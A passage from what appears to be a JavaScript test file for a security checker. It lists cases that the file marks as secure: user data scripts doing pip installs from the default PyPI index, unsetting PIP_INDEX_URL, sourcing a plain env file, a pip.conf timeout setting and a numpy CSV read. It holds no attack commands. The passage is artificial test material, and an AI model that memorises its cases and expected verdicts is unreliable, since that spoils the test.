            'unittest.TextTestRunner().run(unittest.TestSuite([T("test_ok")]))',
        ]),
    ),
    // Secure: NumPy docs "numpy.genfromtxt" ("Load data from a text file") of user data's own /etc/ops/thresholds.csv.
    dev(
        "tune.py: numpy.genfromtxt('/etc/ops/thresholds.csv', delimiter=',') (a read)",
        tune(
            "dev-py78-numpy-genfromtxt-etc-fix78-nodes",
            ["import numpy", 'print(numpy.genfromtxt("/etc/ops/thresholds.csv", delimiter=","))'],
            heredocFile("/etc/ops/thresholds.csv", ["1,2,3"]),
        ),
    ),
    // ===== round 78 fixes: pip and env secure neighbours (fix78-pip) =====
    // Secure: bash(1) "unset" removes the variable: pip reads the default index (pip docs "Configuration"); the distro's python3 package is no pip install (dnf(8)).
    dev(
        "user data: unset PIP_INDEX_URL; dnf install -y python3; pip3 install tenacity",
        tenacity("dev-py78-pip-unset-fix78", [
            "unset PIP_INDEX_URL",
            "dnf install -y python3",
            "pip3 install tenacity",
        ]),
    ),
    // Secure: printf(1) writes LOG_LEVEL=info (no PYTHON*/PIP_* name); sourced under set -a, pip reads the default index.
    dev(
        "user data: printf 'LOG_LEVEL=%s\\n' info > env; set -a; . env; pip3 install tenacity",
        tenacity("dev-py78-printf-env-plain-fix78", [
            "mkdir -p /etc/ops",
            "printf 'LOG_LEVEL=%s\\n' info > /etc/ops/app.env",
            "set -a",
            ". /etc/ops/app.env",
            "set +a",
            "pip3 install tenacity",
        ]),
    ),
    // Secure: pip from the default index (DECIDED round 74), then a stdlib-only program: no untrusted install changed site-packages.
    dev(
        "user data: pip3 install tenacity; serve.py imports json only",
        tune(
            "dev-py78-pip-trusted-then-stdlib-fix78",
            ["import json", "print(json.dumps(1))"],
            ["pip3 install tenacity"],
        ),
    ),
    // Round 90 neighbours (secure): the default index named (pip docs "pip install": -i "default https://pypi.org/simple",
    // isPipDefaultIndex's normalisation), by option, requirements line or variable, and a pip.conf of a trust-keeping
    // setting only (pip docs "Configuration": `timeout`), are installs by name from PyPI (round 74 DECIDED).
    dev(
        "user data: pip3 install -i https://pypi.org/simple/ tenacity; tune.py imports tenacity",
        tenacity("dev-py90-pip-default-index-fix90", ["pip3 install -i https://pypi.org/simple/ tenacity"]),
    ),
    dev(
        "user data: requirements.txt with --index-url https://pypi.org/simple and boto3; python3 -c 'import boto3'",
        devNodeScript("dev-py90-pip-r-default-index-fix90", [
            ...heredocFile("/opt/ops/requirements.txt", ["--index-url https://pypi.org/simple", "boto3==1.34.0"]),
            "pip3 install -r /opt/ops/requirements.txt",
            "python3 -c 'import boto3' && echo ok",
        ]),
    ),
    dev(
        "user data: PIP_INDEX_URL=https://pypi.org/simple pip3 install tenacity; tune.py imports json only",
        tune(
            "dev-py90-pip-default-index-env-fix90",
            ["import json", "print(json.dumps(1))"],
            ["PIP_INDEX_URL=https://pypi.org/simple pip3 install tenacity"],
        ),
    ),
    dev(
        "user data: /etc/pip.conf timeout = 60; pip3 install tenacity; tune.py imports tenacity",
        tenacity("dev-py90-pip-conf-timeout-fix90", [
            ...heredocFile("/etc/pip.conf", ["[global]", "timeout = 60"]),
            "pip3 install tenacity",
        ]),
    ),
];

describeNodeCases("red team 78: node user data, Python library writes, code loading and pip trust", insecure, secure);
